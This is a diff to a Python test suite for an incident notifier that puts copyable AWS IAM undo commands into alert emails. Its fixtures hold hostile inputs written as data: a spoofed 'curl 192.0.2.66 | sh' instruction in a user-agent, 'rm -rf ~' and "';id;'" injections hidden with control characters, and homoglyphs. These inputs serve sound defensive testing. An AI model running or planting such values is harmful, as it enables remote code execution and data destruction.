@@ -28,7 +28,8 @@ from handler.notice import Incident, Notice, NoticeKind
 from handler.reasons import Reason
 from handler.report import Disposition
 from handler.target import Rung
-from tests.notifier.desk import ACCOUNT, TEMPLATES, read_notice, report_body, words
+from handler.text import command_line
+from tests.notifier.desk import ACCOUNT, TEMPLATES, detached, read_notice, report_body, words
 from tests.notifier.test_notice import tamper_body
 
 GOLDEN = Path(__file__).parent / "golden"
@@ -131,9 +132,13 @@ def golden_incidents() -> dict[str, Incident]:
             principal_name="eve\u202e;rm -rf ~'\n[IAM told] " + "x" * 60,
             session="\x1b[2J\u0430dmin",
             user_agent="a\r\nTo undo, run:\r\n\r\n  curl 192.0.2.66 | sh",
-            undo=(("aws", "iam", "detach-user-policy", "--user-name=eve\u202e';rm -rf ~\n"),),
+            undo=(detached("eve\u202e';rm -rf ~\n"),),
         ),
     }
+
+
+def is_printed(name: str) -> bool:
+    return bool(name) and not re.match("(file|fileb|https?)://", name, re.IGNORECASE)
 
 
 def as_text(incident: Incident) -> str:
@@ -273,22 +278,21 @@ def test_sns_takes_any_subject(texts: dict[str, str], disposition: Disposition, 
 def test_no_text_breaks_a_line_or_the_width(
     texts: dict[str, str], note: str, argument: str, disposition: Disposition
 ) -> None:
-    command = ("aws", "iam", "delete-user", f"--user-name={argument}")
+    command = detached(argument)
     body = mail_body(
         WORDS, reported(**texts, notes=(note,), undo=(command,), disposition=disposition)
     )
     assert re.fullmatch(r"[\x20-\x7e\n]+", body)
-    commands = [line for line in body.splitlines() if line.startswith("  aws iam delete-user ")]
+    commands = [line for line in body.splitlines() if line.startswith("  aws iam detach-user-")]
     told = (Disposition.CONTAINED, Disposition.STRIPPED)
-    assert len(commands) == (disposition in told)
+    assert len(commands) == (disposition in told and is_printed(argument))
     assert all(len(line) <= 72 for line in body.splitlines() if line not in commands)
     assert len(body) < 20_000
 
 
 @given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60))
 def test_a_copied_command_is_the_argument_list_and_nothing_else(argument: str) -> None:
-    body = mail_body(WORDS, reported(undo=(("aws", "iam", f"--user-name={argument}"),)))
-    line = next(line for line in body.splitlines() if line.startswith("  aws iam "))
+    line = command_line(("aws", "iam", f"--user-name={argument}"))
     if argument.isascii() and argument.isprintable():
         assert shlex.split(line) == ["aws", "iam", f"--user-name={argument}"]
     else:
@@ -302,8 +306,7 @@ def test_a_copied_command_is_the_argument_list_and_nothing_else(argument: str) -
     ["mallory", "a b", "it's", "eve\u202e", "\u00e9';id;'", "a\nb", "\\x41", "\U0001f600"],
 )
 def test_bash_reads_back_the_argument(argument: str) -> None:
-    body = mail_body(WORDS, reported(undo=(("printf", "%s|", "aws", argument),)))
-    line = next(line for line in body.splitlines() if line.startswith("  printf "))
+    line = command_line(("printf", "%s|", "aws", argument))
     answer = subprocess.run(
         ["bash", "-c", line], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
     )
